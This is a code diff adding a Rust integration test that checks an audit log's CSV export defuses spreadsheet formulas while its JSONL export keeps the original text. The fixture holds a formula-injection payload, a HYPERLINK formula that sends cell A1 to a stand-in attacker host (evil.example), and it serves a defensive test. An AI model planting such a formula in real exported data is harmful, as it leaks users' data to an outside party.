@@ -767,6 +767,47 @@ async fn the_query_endpoint_reads_by_request_tenant_and_time() {
 }
 
 #[tokio::test]
+async fn csv_exports_defuse_formulas_and_json_lines_keep_the_text() {
+    let db = fresh_database().await;
+    let store = ragway::audit::store::postgres::PgStore::connect_lazy(&db).unwrap();
+    store.migrate().await.unwrap();
+    let prompt = r#"=HYPERLINK("http://evil.example/?d="&A1,"Click")"#;
+    let mut row = sample_row("formula");
+    row.prompt = Some(prompt.to_owned());
+    row.answer = Some("+1 (555) 0100".to_owned());
+    row.user_agent = Some("@evil".to_owned());
+    store.append("gw-csv", &[row], None).await.unwrap();
+
+    let dir = temp_dir();
+    let config = dir.join("ragway.toml");
+    std::fs::write(&config, "[audit]\ndatabase_env = \"AUDIT_DB\"\n").unwrap();
+    let export = |format: &str| {
+        let out = std::process::Command::new(env!("CARGO_BIN_EXE_ragway"))
+            .arg("--config")
+            .arg(&config)
+            .args(["audit", "export", "--format", format])
+            .env("AUDIT_DB", &db)
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "{out:?}");
+        String::from_utf8(out.stdout).unwrap()
+    };
+    let csv = export("csv");
+    let line = csv.lines().nth(1).expect("a row after the header");
+    assert!(
+        line.contains(r#","'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")","#),
+        "{line}"
+    );
+    assert!(line.contains(",'+1 (555) 0100,"), "{line}");
+    assert!(line.contains(",'@evil,"), "{line}");
+    let jsonl = export("jsonl");
+    let exported: Value = serde_json::from_str(jsonl.lines().next().unwrap()).unwrap();
+    assert_eq!(exported["prompt"], prompt);
+    assert_eq!(exported["answer"], "+1 (555) 0100");
+    assert_eq!(exported["user_agent"], "@evil");
+}
+
+#[tokio::test]
 async fn retention_drops_whole_months_past_the_limit() {
     let db = fresh_database().await;
     let store = ragway::audit::store::postgres::PgStore::connect_lazy(&db).unwrap();
